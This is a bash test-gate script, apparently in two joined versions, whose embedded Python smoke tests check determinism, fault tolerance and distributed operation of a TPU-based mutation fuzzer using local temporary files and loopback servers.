            "seed": (7, 7, 7),
            "n": 3,
            "output": os.path.join(outdir, "%n.out"),
            "shards": shards,
            "_stats": stats,
        },
        batch=8,
    )
    chaos.configure(None)
    blob = b""
    for f in sorted(os.listdir(outdir), key=lambda s: int(s.split(".")[0])):
        blob += open(os.path.join(outdir, f), "rb").read()
    return rc, blob, stats


root = tempfile.mkdtemp(prefix="tier1_fleet_smoke_")
try:
    rc1, blob1, st1 = one_run(os.path.join(root, "s1"), 1)
    rc2, blob2, st2 = one_run(os.path.join(root, "s2"), 2)
    rc3, blob3, st3 = one_run(os.path.join(root, "kill"), 2,
                              spec="shard.step:x1")
finally:
    shutil.rmtree(root, ignore_errors=True)
kinds = [m["kind"] for m in st3["migrations"]]
ok = (rc1 == rc2 == rc3 == 0 and blob1
      and blob2 == blob1 and blob3 == blob1
      and st2["oracle_cases"] == 0 and st2["migrations"] == []
      and st3["oracle_cases"] == 0 and st3["redispatches"] >= 1
      and kinds[:1] == ["revoke"] and "readmit" in kinds)
print(f"FLEET_SMOKE={'ok' if ok else 'FAIL'} bytes={len(blob1)} "
      f"identical_2shard={blob2 == blob1} identical_kill={blob3 == blob1} "
      f"migrations={kinds} oracle_cases={st3['oracle_cases']} "
      f"redispatches={st3['redispatches']}")
sys.exit(0 if ok else 1)
EOF2
  rc=$?
fi

if [ $rc -eq 0 ] && [ $dist_fleet_smoke -eq 1 ]; then
  echo "== dist fleet smoke: remote==local identity, worker kill, resume, framed window =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF2'
import os, shutil, sys, tempfile

from erlamsa_tpu.corpus.fleet import run_corpus_fleet
from erlamsa_tpu.services import chaos
from erlamsa_tpu.services.dist import ParentServer

SEED = (7, 7, 7)
SEEDS = [bytes([65 + i]) * (30 * (i + 1)) for i in range(6)]


def one_run(root, tag, n, shards=None, nodes=None, spec=None, state=False,
            window=1):
    chaos.configure(spec, seed=SEED[0])
    outdir = os.path.join(root, f"out-{tag}")
    os.makedirs(outdir, exist_ok=True)
    stats = {}
    opts = {
        "corpus_dir": os.path.join(root, f"corpus-{tag}"),
        "corpus": list(SEEDS),
        "seed": SEED,
        "n": n,
        "output": os.path.join(outdir, "%n.out"),
        "shards": shards,
        "fleet_nodes": nodes,
        "fleet_window": window,
        "_stats": stats,
    }
    if state:
        opts["state_path"] = os.path.join(root, f"state-{tag}.npz")
    try:
        rc = run_corpus_fleet(opts, batch=8)
    finally:
        chaos.configure(None)
    blob = b""
    for i in range(n * 8):
        p = os.path.join(outdir, f"{i}.out")
        blob += open(p, "rb").read() if os.path.exists(p) else b"<missing>"
    store = open(os.path.join(root, f"corpus-{tag}", "corpus.json"),
                 "rb").read()
    return rc, blob, store, stats


srv1 = ParentServer(0, {"seed": SEED}).serve(block=False)
srv2 = ParentServer(0, {"seed": SEED}).serve(block=False)
nodes = [f"127.0.0.1:{srv._srv.getsockname()[1]}" for srv in (srv1, srv2)]
root = tempfile.mkdtemp(prefix="tier1_dist_fleet_smoke_")
try:
    # reference: plain local 2-shard campaign
    rc1, blob1, store1, _ = one_run(root, "loc", 4, shards=2)
    # remote: the same campaign sliced across two loopback workers
    rc2, blob2, store2, st2 = one_run(root, "rem", 4, nodes=nodes)
    # worker kill mid-campaign: one injected send fault revokes a
    # remote lease; the slice redispatches WITHIN the case
    rc3, blob3, store3, st3 = one_run(root, "kill", 4, nodes=nodes,
                                      spec="dist.shard.send:x1")
    # coordinator kill + resume: 2 of 4 cases, then resume from --state
    rc4, _, _, _ = one_run(root, "res", 2, nodes=nodes, state=True)
    rc5, blob5, store5, st5 = one_run(root, "res", 4, nodes=nodes,
                                      state=True)
    # framed window (r15): same campaign at --fleet-window 4 — output
    # must stay byte-identical while the awaited exchanges collapse to
    # lease + snapshot + one sync per window (<= shards*(ceil(n/W)+3))
    rc6, blob6, store6, st6 = one_run(root, "win", 4, nodes=nodes,
                                      window=4)
finally:
    srv1.stop()
    srv2.stop()
    shutil.rmtree(root, ignore_errors=True)
kinds = [m["kind"] for m in st3["migrations"]]
rt6 = st6.get("transport", {}).get("round_trips", 1 << 30)
rt_bound = st6["shards"] * (-(-4 // 4) + 3)
ok = (rc1 == rc2 == rc3 == rc4 == rc5 == rc6 == 0 and blob1
      and st2["remote_shards"] == 2
      and blob2 == blob1 and store2 == store1
      and blob3 == blob1 and store3 == store1
      and st3["redispatches"] >= 1 and kinds[:1] == ["revoke"]
      and st5["start_case"] == 2
      and blob5 == blob1 and store5 == store1
      and blob6 == blob1 and store6 == store1
      and rt6 <= rt_bound)
print(f"DIST_FLEET_SMOKE={'ok' if ok else 'FAIL'} bytes={len(blob1)} "
      f"identical_remote={blob2 == blob1} identical_kill={blob3 == blob1} "
      f"identical_resume={blob5 == blob1} store_resume={store5 == store1} "
      f"identical_window={blob6 == blob1} "
      f"round_trips={rt6}<=bound={rt_bound} "
      f"migrations={kinds} redispatches={st3['redispatches']} "
      f"start_case={st5.get('start_case')}")
sys.exit(0 if ok else 1)
EOF2
  rc=$?
fi

if [ $rc -eq 0 ] && [ $spmd_smoke -eq 1 ]; then
  echo "== spmd smoke: fused 8-device fleet identity + one-dispatch-per-case probe =="
  timeout -k 10 900 env JAX_PLATFORMS=cpu \
    XLA_FLAGS=--xla_force_host_platform_device_count=8 python - <<'EOF2'
import os, shutil, sys, tempfile

from erlamsa_tpu.corpus.runner import run_corpus_batch
from erlamsa_tpu.parallel import spmd as spmd_mod
from erlamsa_tpu.services import chaos

SEED = (11, 22, 33)
# one capacity class: the dispatch count is exactly cases x 1
SEEDS = [b"alpha seed one", b"bravo seed two!", b"dd",
         b"echo echo x", b"golf golf golf", b"hotel hotel"]
N = 2


def one_run(root, tag, opts_extra):
    chaos.configure(None)
    outdir = os.path.join(root, f"out-{tag}")
    os.makedirs(outdir)
    stats = {}
    opts = {
        "corpus_dir": os.path.join(root, f"corpus-{tag}"),
        "corpus": list(SEEDS),
        "feedback": True,
        "seed": SEED,
        "n": N,
        "output": os.path.join(outdir, "%n.out"),
        "_stats": stats,
    }
    opts.update(opts_extra)
    rc = run_corpus_batch(opts, batch=8)
    blob = b""
    for i in range(N * 8):
        blob += open(os.path.join(outdir, f"{i}.out"), "rb").read()
    return rc, blob, stats


import jax
assert len(jax.devices()) == 8, jax.devices()
root = tempfile.mkdtemp(prefix="tier1_spmd_smoke_")
try:
    rc1, blob1, _ = one_run(root, "single",
                            {"pipeline": "sync", "layout": "arena"})
    rc2, blob2, st2 = one_run(root, "sh8", {"shards": 8})
    spmd_mod.reset_stats()
    rc3, blob3, st3 = one_run(root, "spmd", {"spmd": True})
finally:
    shutil.rmtree(root, ignore_errors=True)
sp = st3["spmd"]
ok = (rc1 == rc2 == rc3 == 0 and blob1
      and blob2 == blob1 and blob3 == blob1
      and st3["fleet"]["shards"] == 8
      and st3["oracle_cases"] == 0 and st3["migrations"] == []
      and sp["fallbacks"] == 0
      and sp["dispatches"] == N      # ONE dispatch per (case, class)
      and sp["programs"] == 1)       # ONE compile serves every case
print(f"SPMD_SMOKE={'ok' if ok else 'FAIL'} bytes={len(blob1)} "
      f"identical_8shard={blob2 == blob1} identical_spmd={blob3 == blob1} "
      f"dispatches={sp['dispatches']} programs={sp['programs']} "
      f"fallbacks={sp['fallbacks']}")
sys.exit(0 if ok else 1)
EOF2
  rc=$?
fi

if [ $rc -eq 0 ] && [ $serve_smoke -eq 1 ]; then
  echo "== serve smoke: continuous engine identity + concurrent load =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF'
import socket, sys, threading, urllib.request

from erlamsa_tpu.ops.slots import STEP_CACHE
from erlamsa_tpu.services.faas import serve


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def boot(mode):
    port = free_port()
    srv = serve("127.0.0.1", port,
                {"seed": (7, 7, 7), "capacity": 256, "slots": 8,
                 "serving": mode},
                backend="tpu", batch=8, block=False)
    return port, srv


def post(port, data):
    req = urllib.request.Request(
        f"http://127.0.0.1:{port}/erlamsa/erlamsa_esi:fuzz", data=data)
    return urllib.request.urlopen(req, timeout=120).read()


# identity FIRST, on fresh servers: request id 0 on each side must
# answer byte-for-byte identically across serving modes
cport, csrv = boot("continuous")
fport, fsrv = boot("flush")
a = post(cport, b"serve smoke identity payload")
b = post(fport, b"serve smoke identity payload")
fsrv.shutdown()
identical = bool(a) and a == b

# then 200 concurrent requests against the continuous server: zero
# errors, zero request-path compiles. An EMPTY 200-answer is a
# legitimate fuzz output (deletion mutators can shrink a short input
# to nothing, deterministically per request id) — only transport
# errors and non-200s fail the smoke, and the empty minority is
# bounded as a give-up tripwire
compiles0 = STEP_CACHE.stats()["compiles"]
errors = []
served = [0]
nonempty = [0]


def client(i):
    try:
        if post(cport, b"concurrent load %03d" % i):
            nonempty[0] += 1
        served[0] += 1
    except Exception as e:  # noqa: BLE001 - any failure fails the smoke
        errors.append((i, repr(e)))


threads = [threading.Thread(target=client, args=(i,)) for i in range(200)]
for t in threads:
    t.start()
for t in threads:
    t.join(300)
csrv.shutdown()
compiles = STEP_CACHE.stats()["compiles"] - compiles0
ok = (identical and not errors and served[0] == 200
      and nonempty[0] >= 180 and compiles == 0)
print(f"SERVE_SMOKE={'ok' if ok else 'FAIL'} identical={identical} "
      f"served={served[0]}/200 nonempty={nonempty[0]} "
      f"errors={len(errors)} request_path_compiles={compiles}")
if errors:
    print("first errors:", errors[:3])
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

if [ $rc -eq 0 ] && [ $struct_smoke -eq 1 ]; then
  echo "== struct smoke: device tree-splice kernels must match the span-oracle =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF'
import os, shutil, sys, tempfile

from erlamsa_tpu.services import metrics
from erlamsa_tpu.services.batchrunner import run_tpu_batch

# structured seeds so the tokenizer finds spans for every struct code:
# JSON (tr2/td/ts1/tr/ts2/js), XML-ish tags (sgm), base64 runs (b64),
# percent-escaped URIs (uri), plus one plain-bytes seed that should
# route through the ordinary device mutators untouched
SEEDS = [
    b'{"user": {"name": "ada", "tags": ["a", "b", "c"]}, "n": 42}',
    b'[[1, 2, 3], [4, 5, 6], {"k": [7, 8]}]',
    b"<doc><a>alpha</a><b>beta</b><a>gamma</a></doc>",
    b"prefix aGVsbG8gc3RydWN0dXJlZCB3b3JsZA== suffix",
    b"GET /p%20q?x=%41%42%43&y=%7b1%7d HTTP/1.1",
    b"plain old unstructured bytes " * 3,
]


def one_run(root, mode):
    outdir = os.path.join(root, "out")
    os.makedirs(outdir)
    stats = {}
    rc = run_tpu_batch(
        {
            "corpus": SEEDS,
            "seed": (13, 13, 13),
            "n": 3,
            "output": os.path.join(outdir, "%n.out"),
            "struct": mode,
            "_stats": stats,
        },
        batch=12,
    )
    blob = b""
    for f in sorted(os.listdir(outdir), key=lambda s: int(s.split(".")[0])):
        blob += open(os.path.join(outdir, f), "rb").read()
    return rc, blob, stats


root = tempfile.mkdtemp(prefix="tier1_struct_smoke_")
try:
    rc_d, blob_d, st_d = one_run(os.path.join(root, "device"), "device")
    # snapshot BEFORE the host run: the span-oracle run below routes the
    # struct codes to the host on purpose and would pollute the tail
    tail = dict(metrics.GLOBAL.snapshot()["host_routed"])
    rc_h, blob_h, st_h = one_run(os.path.join(root, "host"), "host")
finally:
    shutil.rmtree(root, ignore_errors=True)
stray = sorted(set(tail) - {"zip", "overflow"})
ok = (rc_d == rc_h == 0 and blob_d and blob_h == blob_d
      and st_d.get("struct_bytes_uploaded", 0) > 0 and not stray)
print(f"STRUCT_SMOKE={'ok' if ok else 'FAIL'} identical={blob_h == blob_d} "
      f"bytes={len(blob_d)} "
      f"struct_upload_bytes={st_d.get('struct_bytes_uploaded')} "
      f"device_host_tail={tail} stray_codes={stray}")
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

if [ $rc -eq 0 ] && [ $monitor_smoke -eq 1 ]; then
  echo "== monitor smoke: coverage-gated adoption + degradation byte-identity =="
  timeout -k 10 900 env JAX_PLATFORMS=cpu python - <<'EOF'
import os, shutil, socket, sys, tempfile, time, zlib

from erlamsa_tpu.corpus import feedback as fb
from erlamsa_tpu.corpus.runner import run_corpus_batch
from erlamsa_tpu.services import chaos
from erlamsa_tpu.services.dist import _pack_frame
from erlamsa_tpu.services.monitors import CoverageHub, ExecMonitor

SEEDS = [bytes([65 + i]) * (30 * (i + 1)) for i in range(6)]
N, BATCH = 3, 8


def one_run(root, hub=None, distill=False):
    outdir = os.path.join(root, "out")
    os.makedirs(outdir)
    stats = {}
    opts = {
        "corpus_dir": os.path.join(root, "corpus"),
        "corpus": list(SEEDS),
        "feedback": True,
        "seed": (16, 16, 16),
        "n": N,
        "output": os.path.join(outdir, "%n.out"),
        "adopt": True,
        "_stats": stats,
    }
    if hub is not None:
        opts.update(coverage=True, coverage_hub=hub, distill=distill)
    rc = run_corpus_batch(opts, batch=BATCH)
    blob = b""
    for f in sorted(os.listdir(outdir), key=lambda s: int(s.split(".")[0])):
        blob += open(os.path.join(outdir, f), "rb").read()
    return rc, blob, stats


def send_frames(hub, frames):
    with socket.create_connection((hub.host, hub.port), timeout=10) as s:
        for case, slot, blob in frames:
            s.sendall(_pack_frame(
                {"op": "cov", "case": case, "slot": slot, "epoch": 0,
                 "crc": zlib.crc32(blob)}, blob))


def wait(pred, timeout=15.0):
    t0 = time.monotonic()
    while not pred():
        if time.monotonic() - t0 > timeout:
            return False
        time.sleep(0.01)
    return True


root = tempfile.mkdtemp(prefix="tier1_monitor_smoke_")
try:
    # A: hash-novelty baseline (coverage off) — every novel output
    # hash adopts, up to the cap
    rc_a, blob_a, st_a = one_run(os.path.join(root, "base"))

    # B: coverage-gated. All frames are buffered BEFORE the run (the
    # deterministic stub): case 0 slot 0 lights 32 edges, slots 1-7
    # light a strict subset — sequential gains make slot 0 the only
    # admit; cases 1-2 send all-zero maps, so nothing else adopts.
    # Distillation must then retire the subset-covered seeds.
    hub_b = CoverageHub(port=0).start()
    mb = hub_b.map_bytes
    full = bytes([0xFF] * 4) + bytes(mb - 4)
    subset = bytes([0xFF] * 2) + bytes(mb - 2)
    frames = [(0, 0, full)] + [(0, s, subset) for s in range(1, BATCH)]
    frames += [(c, s, bytes(mb)) for c in (1, 2) for s in range(BATCH)]
    send_frames(hub_b, frames)
    buffered = wait(lambda: hub_b.pending_frames() == len(frames))
    rc_b, blob_b, st_b = one_run(os.path.join(root, "cov"), hub=hub_b,
                                 distill=True)
    hub_b.stop()
    cov_b = st_b.get("coverage", {})

    # C: same campaign, but a monitor.ingest fault storm kills the
    # plane (breaker opens on the pre-run frames) — the run must
    # complete DEGRADED and byte-identical to the A baseline
    chaos.configure("monitor.ingest:*", seed=16)
    hub_c = CoverageHub(port=0).start()
    send_frames(hub_c, frames[:6])
    dead = wait(lambda: not hub_c.alive())
    rc_c, blob_c, st_c = one_run(os.path.join(root, "deg"), hub=hub_c)
    chaos.configure(None)
    hub_c.stop()
    cov_c = st_c.get("coverage", {})

    # exec stub: one abnormal exit must cross the supervised monitor
    # plane onto the findings bus (after the runs — the runs consume
    # the bus)
    fb.GLOBAL.drain()
    mon = ExecMonitor({"app": "sh -c 'exit 7'", "delay": 30,
                       "timeout": 10}).start()
    exec_ok = wait(lambda: any(e.kind == "finding" and e.detail == "rc=7"
                               for e in fb.GLOBAL.drain()))
    mon.stop()
    mon.join(timeout=10)
finally:
    shutil.rmtree(root, ignore_errors=True)

ok = (rc_a == rc_b == rc_c == 0 and blob_a and buffered and dead
      and st_a["offspring"] > 1 and st_b["offspring"] <= 1
      and cov_b.get("folds", 0) == N and cov_b.get("new_edges") == 32
      and not cov_b.get("degraded") and cov_b.get("distilled", 0) >= 1
      and blob_b != blob_a
      and cov_c.get("degraded") and blob_c == blob_a
      and exec_ok)
print(f"MONITOR_SMOKE={'ok' if ok else 'FAIL'} "
      f"adopt_base={st_a['offspring']} adopt_cov={st_b['offspring']} "
      f"folds={cov_b.get('folds')} new_edges={cov_b.get('new_edges')} "
      f"distilled={cov_b.get('distilled')} "
      f"degraded={bool(cov_c.get('degraded'))} "
      f"identical_degraded={blob_c == blob_a} exec_finding={exec_ok}")
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

if [ $rc -eq 0 ] && [ $gen_smoke -eq 1 ]; then
  echo "== gen smoke: device grammar expansion, adoption run, host-fallback identity =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF'
import os, shutil, sys, tempfile

import numpy as np

from erlamsa_tpu.corpus.runner import run_corpus_batch
from erlamsa_tpu.gen import BUILTIN_GRAMMARS, compile_grammar
from erlamsa_tpu.models.genfuzz import generate_keyed
from erlamsa_tpu.ops import grammar as gk
from erlamsa_tpu.ops import prng
from erlamsa_tpu.services import chaos

SEED = (17, 17, 17)

# 1. kernel == keyed host oracle, every builtin grammar, both modes
ident = True
for name, g in sorted(BUILTIN_GRAMMARS.items()):
    cg = compile_grammar(g, source=name)
    base = prng.base_key(SEED)
    for fuzz in (False, True):
        fn = gk.make_expand(cg, fuzz=fuzz)
        panel, lens, trunc = fn(base, 0, np.arange(6))
        for s in range(6):
            skey = gk.gen_sample_key(base, cg.grammar_id, 0, s)
            row, ln, tr = generate_keyed(cg, skey, fuzz=fuzz)
            if (ln != int(lens[s]) or tr != bool(trunc[s])
                    or bytes(row) != bytes(np.asarray(panel[s]))):
                ident = False
print(f"gen identity: {'ok' if ident else 'FAIL'}")


def one_run(root, spec=None):
    chaos.configure(spec, seed=SEED[0])
    outdir = os.path.join(root, "out")
    os.makedirs(outdir)
    stats = {}
    try:
        rc = run_corpus_batch(
            {
                "corpus_dir": os.path.join(root, "corpus"),
                "gen": {"grammar": BUILTIN_GRAMMARS["demo-tlv"],
                        "label": "demo-tlv", "n": 12},
                "feedback": True,
                "layout": "arena",
                "adopt": True,
                "seed": SEED,
                "n": 3,
                "output": os.path.join(outdir, "%n.out"),
                "_stats": stats,
            },
            batch=8,
        )
    finally:
        chaos.configure(None)
    blob = b""
    for f in sorted(os.listdir(outdir), key=lambda s: int(s.split(".")[0])):
        blob += open(os.path.join(outdir, f), "rb").read()
    return rc, blob, stats


root = tempfile.mkdtemp(prefix="tier1_gen_smoke_")
try:
    # 2. generate-then-mutate adoption run (clean)
    rc1, blob1, st1 = one_run(os.path.join(root, "clean"))
    # 3. injected gen.expand fault -> host oracle, byte-identical
    rc2, blob2, st2 = one_run(os.path.join(root, "fault"),
                              spec="gen.expand:x1")
finally:
    shutil.rmtree(root, ignore_errors=True)
g1, g2 = st1.get("gen", {}), st2.get("gen", {})
ok = (ident and rc1 == rc2 == 0 and blob1 and blob2 == blob1
      and g1.get("generated", 0) > 0 and g1.get("host_fallback", 0) == 0
      and not g1.get("degraded") and g2.get("host_fallback", 0) > 0
      and g2.get("degraded"))
print(f"GEN_SMOKE={'ok' if ok else 'FAIL'} identity={ident} "
      f"bytes={len(blob1)} identical_fault={blob2 == blob1} "
      f"generated={g1.get('generated')} "
      f"fallback_clean={g1.get('host_fallback')} "
      f"fallback_fault={g2.get('host_fallback')} "
      f"degraded_fault={g2.get('degraded')}")
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

if [ $rc -eq 0 ] && [ $churn_smoke -eq 1 ]; then
  echo "== churn smoke: hot-join + SIGTERM drain must be byte-identical to the static fleet =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF2'
import os, shutil, signal, socket, subprocess, sys, tempfile, threading, time

from erlamsa_tpu.corpus.fleet import run_corpus_fleet

SEED = (7, 7, 7)
SEEDS = [bytes([65 + i]) * (30 * (i + 1)) for i in range(6)]
N, BATCH = 4, 8


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_listening(port, timeout=120.0):
    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=2).close()
            return True
        except OSError:
            time.sleep(0.2)
    return False


def make_opts(root, tag, opts_extra):
    outdir = os.path.join(root, f"out-{tag}")
    os.makedirs(outdir, exist_ok=True)
    opts = {
        "corpus_dir": os.path.join(root, f"corpus-{tag}"),
        "corpus": list(SEEDS),
        "seed": SEED,
        "n": N,
        "output": os.path.join(outdir, "%n.out"),
        "shards": None,
        "_stats": {},
    }
    opts.update(opts_extra)
    return opts


def read_outputs(root, tag):
    outdir = os.path.join(root, f"out-{tag}")
    blob = b"".join(
        open(os.path.join(outdir, f"{i}.out"), "rb").read()
        for i in range(N * BATCH))
    store = open(os.path.join(root, f"corpus-{tag}", "corpus.json"),
                 "rb").read()
    return blob, store


def one_run(root, tag, opts_extra):
    opts = make_opts(root, tag, opts_extra)
    rc = run_corpus_fleet(opts, batch=BATCH)
    blob, store = read_outputs(root, tag)
    return rc, blob, store, opts["_stats"]


def spawn_worker(*extra):
    return subprocess.Popen(
        [sys.executable, "-m", "erlamsa_tpu", *extra],
        cwd=os.getcwd(), env={**os.environ, "JAX_PLATFORMS": "cpu"})


root = tempfile.mkdtemp(prefix="tier1_churn_smoke_")
w1 = w2 = None
try:
    # reference: static local 2-shard campaign
    rc_ref, ref, store_ref, _ = one_run(root, "static", {"shards": 2})
    assert rc_ref == 0

    # churn leg: worker 1 named at launch, slot 1 vacant until worker 2
    # hot-joins mid-campaign; worker 1 is SIGTERMed once output starts
    # flowing and must drain at a window fence without a single rewind
    w1_port, accept_port = free_port(), free_port()
    w1 = spawn_worker("--fleet-worker", str(w1_port))
    assert wait_listening(w1_port), "worker 1 never came up"
    w2 = spawn_worker("--fleet-worker", "0",
                      "--fleet-join", f"127.0.0.1:{accept_port}")

    copts = make_opts(root, "churn", {
        "fleet_nodes": [f"127.0.0.1:{w1_port}"],
        "fleet_expect": 2,
        "fleet_accept": accept_port,
    })
    st = copts["_stats"]
    result = {}

    def coordinator():
        result["rc"] = run_corpus_fleet(copts, batch=BATCH)

    t = threading.Thread(target=coordinator)
    t.start()
    # SIGTERM as soon as the FIRST case merges (finish_times is
    # appended in place): the remaining window fences must see the
    # draining stamp on worker 1's replies and hand its slots back
    t0 = time.monotonic()
    while t.is_alive() and time.monotonic() - t0 < 400:
        if st.get("finish_times"):
            break
        time.sleep(0.2)
    w1.send_signal(signal.SIGTERM)  # graceful drain, not a kill
    t.join(500)
    rc_c = result.get("rc", 1)
    churn, store_c = read_outputs(root, "churn")

    def graceful_exit(w, label):
        try:
            return w.wait(timeout=120)
        except subprocess.TimeoutExpired:
            print(f"{label} did not exit after drain — killing")
            w.kill()
            return -9

    w1_rc = graceful_exit(w1, "worker 1")
    w2.send_signal(signal.SIGTERM)  # idle by now: drain-complete exit
    w2_rc = graceful_exit(w2, "worker 2")
finally:
    for w in (w1, w2):
        if w is not None and w.poll() is None:
            w.kill()
    shutil.rmtree(root, ignore_errors=True)

kinds = [e["kind"] for e in st.get("membership", {}).get("events", [])]
ok = (rc_c == 0 and ref and churn == ref and store_c == store_ref
      and st["slice_rewinds"] == 0 and st["rewinds"] == 0
      and "join" in kinds and "drain" in kinds
      and w1_rc == 0 and w2_rc == 0)
print(f"CHURN_SMOKE={'ok' if ok else 'FAIL'} bytes={len(ref)} "
      f"identical={churn == ref} store_identical={store_c == store_ref} "
      f"membership={kinds} slice_rewinds={st.get('slice_rewinds')} "
      f"rewinds={st.get('rewinds')} worker_rcs=({w1_rc},{w2_rc})")
sys.exit(0 if ok else 1)
EOF2
  rc=$?
fi

exit $rc
