#!/usr/bin/env bash
# Tier-1 gate: the exact command from ROADMAP.md ("Tier-1 verify").
# Fast tests only (-m 'not slow'); slow-marked tests (device-engine
# compiles, end-to-end corpus runs) live behind `pytest -m slow`.
# Run from the repo root: scripts/tier1.sh
#
# scripts/tier1.sh --bench-smoke additionally runs one tiny pipelined
# corpus batch (async pipeline, 2 cases) after the tests — a cheap
# end-to-end check that the double-buffered runner dispatches, drains
# and reports throughput without needing the full bench.py harness.
set -o pipefail

bench_smoke=0
if [ "${1:-}" = "--bench-smoke" ]; then
  bench_smoke=1
  shift
fi

rm -f /tmp/_t1.log
timeout -k 10 870 env JAX_PLATFORMS=cpu python -m pytest tests/ -q \
  -m 'not slow' --continue-on-collection-errors \
  -p no:cacheprovider -p no:xdist -p no:randomly 2>&1 | tee /tmp/_t1.log
rc=${PIPESTATUS[0]}
echo DOTS_PASSED=$(grep -aE '^[.FEsx]+( *\[ *[0-9]+%\])?$' /tmp/_t1.log | tr -cd . | wc -c)

if [ $rc -eq 0 ] && [ $bench_smoke -eq 1 ]; then
  echo "== bench smoke: tiny pipelined corpus batch =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF'
import os, shutil, sys, tempfile

from erlamsa_tpu.corpus.runner import run_corpus_batch

stats = {}
tmpdir = tempfile.mkdtemp(prefix="tier1_bench_smoke_")
try:
    rc = run_corpus_batch(
        {
            "corpus_dir": tmpdir,
            "corpus": [bytes([65 + i]) * (40 * (i + 1)) for i in range(6)],
            "feedback": True,
            "seed": (1, 2, 3),
            "n": 2,
            "output": os.devnull,
            "_stats": stats,
            "pipeline": "async",
        },
        batch=8,
    )
finally:
    shutil.rmtree(tmpdir, ignore_errors=True)
ok = rc == 0 and stats.get("pipeline") == "async" and stats.get("total", 0) > 0
print(f"BENCH_SMOKE={'ok' if ok else 'FAIL'} "
      f"total={stats.get('total')} pipeline={stats.get('pipeline')}")
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

exit $rc
